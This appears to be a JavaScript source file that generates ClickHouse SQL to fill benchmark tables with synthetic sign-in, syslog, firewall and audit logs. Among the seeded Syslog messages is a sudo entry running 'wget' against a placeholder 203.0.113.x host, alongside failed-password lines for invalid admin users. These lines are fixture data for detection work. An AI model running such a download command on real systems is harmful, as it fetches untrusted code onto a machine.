// The rows of the benches, made by the engine itself: each value is a hash of the row's number, so that every run has the same.
/** When the rows begin, in seconds since 1970, and how many seconds they take. */
export const start = Date.UTC(2026, 2, 1) / 1000;
export const duration = 14 * 86_400;

/** A whole number below `size`, different for each `salt`. */
const pick = (size, salt) => `(cityHash64(number, ${salt}) % ${size})`;
const of = (values, salt) =>
  `arrayElement([${values.map((value) => `'${value}'`).join(", ")}], ${pick(values.length, salt)} + 1)`;
/** Few values often, many seldom, as users and addresses are. */
const skewed = (size, salt) => `toUInt64(pow(${pick(1_000_000, salt)} / 1000000, 2) * ${size})`;
const address = (salt) =>
  `concat('203.', toString(${skewed(40, salt)}), '.', toString(${pick(64, salt + 1)}), '.', toString(${pick(32, salt + 2)}))`;
const outcome = (salt) => `multiIf(${pick(100, salt)} < 92, '0', ${pick(100, salt)} < 97, '50126', '50053')`;
const user = (salt) => `concat('user', toString(${skewed(5000, salt)}), '@contoso.example')`;
const guid = (salt) =>
  `lower(concat(hex(cityHash64(number, ${salt})), '-', hex(cityHash64(number, ${salt + 1}) % 65536)))`;

const agents = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/122.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.3 Safari/605.1.15",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15",
];
const applications = ["Microsoft Teams", "Office 365 Exchange Online", "Azure Portal", "GitHub", "Salesforce"];

const location = `concat('{"city":"', ${of(["Vienna", "Berlin", "Paris", "Austin"], 40)}, '","state":"","countryOrRegion":"', ${of(["AT", "DE", "FR", "US"], 40)}, '","geoCoordinates":{"latitude":48.2,"longitude":16.37}}')`;
const device = `concat('{"deviceId":"', if(${pick(2, 41)} = 0, '', ${guid(42)}), '","displayName":"LAPTOP-', toString(${pick(5000, 43)}), '","operatingSystem":"', ${of(["Windows 10", "Windows 11", "MacOs", "Ios 17"], 44)}, '","browser":"Chrome 122.0.0","isCompliant":', if(${pick(3, 45)} = 0, 'false', 'true'), ',"isManaged":true,"trustType":"Azure AD joined"}')`;
const status = `concat('{"errorCode":', ${outcome(46)}, ',"failureReason":"', if(${outcome(46)} = '0', 'Other.', 'Invalid username or password.'), '","additionalDetails":""}')`;

const signIn = (time, forms) => ({
  TimeGenerated: time,
  ResultType: outcome(46),
  UserPrincipalName: user(1),
  UserDisplayName: `concat('User ', toString(${skewed(5000, 1)}))`,
  UserId: guid(2),
  IPAddress: address(3),
  AppDisplayName: of(applications, 6),
  UserAgent: of(agents, 7),
  ClientAppUsed: of(["Browser", "Mobile Apps and Desktop clients"], 8),
  Location: of(["AT", "DE", "FR", "US"], 40),
  CorrelationId: guid(9),
  OperationName: "'Sign-in activity'",
  Category: "'SignInLogs'",
  ...forms,
});

/** How many rows each table gets, and the expression of each column that is filled. */
export const tables = {
  SigninLogs: [4_000_000, (time) => signIn(time, { LocationDetails: location, DeviceDetail: device, Status: status })],
  AADNonInteractiveUserSignInLogs: [
    2_000_000,
    (time) => signIn(time, { LocationDetails: location, DeviceDetail: device, Status: status }),
  ],
  Syslog: [
    2_000_000,
    (time) => ({
      TimeGenerated: time,
      Computer: `concat('host', toString(${pick(200, 20)}))`,
      Facility: of(["auth", "authpriv", "daemon", "kern"], 21),
      SeverityLevel: of(["info", "notice", "warning", "err"], 22),
      ProcessName: of(["sshd", "sudo", "systemd", "cron"], 23),
      SyslogMessage: `multiIf(
        ${pick(1000, 24)} = 0, concat('Failed password for invalid user admin', toString(${pick(90, 25)}), ' from 198.51.100.', toString(${pick(250, 26)}), ' port ', toString(${pick(60000, 27)})),
        ${pick(1000, 24)} = 1, concat('user', toString(${pick(500, 28)}), ' : TTY=pts/0 ; COMMAND=/usr/bin/wget http://203.0.113.', toString(${pick(200, 29)}), '/x'),
        ${pick(1000, 24)} < 400, concat('pam_unix(sshd:session): session opened for user user', toString(${pick(500, 28)})),
        concat('Started session ', toString(number), ' of user user', toString(${pick(500, 28)})))`,
    }),
  ],
  CommonSecurityLog: [
    1_000_000,
    (time) => ({
      TimeGenerated: time,
      DeviceVendor: of(["Cisco", "Fortinet", "Palo Alto Networks"], 30),
      DeviceProduct: of(["ASA", "Fortigate", "PAN-OS"], 30),
      DeviceAction: of(["Deny", "Allow", "Allow", "Drop"], 31),
      SourceIP: `if(${pick(50, 32)} = 0, ${address(3)}, concat('198.', toString(${pick(60, 33)}), '.', toString(${pick(250, 34)}), '.', toString(${pick(250, 35)})))`,
      DestinationIP: `concat('10.0.', toString(${pick(20, 36)}), '.', toString(${pick(250, 37)}))`,
      DestinationPort: `toInt32(${of(["22", "80", "443", "3389", "8080"], 38)})`,
      SentBytes: `toInt64(${pick(100000, 39)})`,
    }),
  ],
  AuditLogs: [
    1_000_000,
    (time) => ({
      TimeGenerated: time,
      OperationName: of(["Add member to role", "Update user", "Consent to application", "Reset password"], 50),
      Category: of(["RoleManagement", "UserManagement", "ApplicationManagement", "UserManagement"], 50),
      Result: of(["success", "success", "success", "failure"], 51),
      InitiatedBy: `concat('{"user":{"id":"', ${guid(52)}, '","userPrincipalName":"', ${user(53)}, '","ipAddress":"', ${address(54)}, '"}}')`,
      TargetResources: `concat('[{"id":"', ${guid(57)}, '","displayName":"', ${of(["Global Administrator", "Reader", "Mail app", "Helpdesk"], 58)}, '","type":"', ${of(["User", "Role", "Application"], 59)}, '","modifiedProperties":[{"displayName":"Role.DisplayName","oldValue":null,"newValue":"Reader"}]},{"id":"', ${guid(60)}, '","displayName":"second","type":"User","modifiedProperties":[]}]')`,
    }),
  ],
};

/** The names of a table's columns that are filled. */
export const filledColumns = (name) => Object.keys(tables[name][1](""));

/** The statement that fills a table; with a scale of 2, with twice as many rows. */
export function fillStatement(name, scale = 1) {
  const select = rowsSelect(name, {
    first: 0,
    count: tables[name][0] * scale,
    from: start * 1000,
    span: duration * 1000,
  });
  return `INSERT INTO ${name} (${filledColumns(name).join(", ")}) ${select}`;
}

/** Rows of a table by their numbers, spread evenly over a span from a time on, both in milliseconds. */
export function rowsSelect(name, { first, count, from, span }) {
  const time = `fromUnixTimestamp64Milli(toInt64(${from}) + intDiv(toInt64(${span}) * (number - ${first}), ${count}), 'UTC')`;
  const columns = Object.entries(tables[name][1](time));
  return `SELECT ${columns.map(([column, sql]) => `${sql} AS ${column}`).join(", ")} FROM numbers(${first}, ${count})`;
}
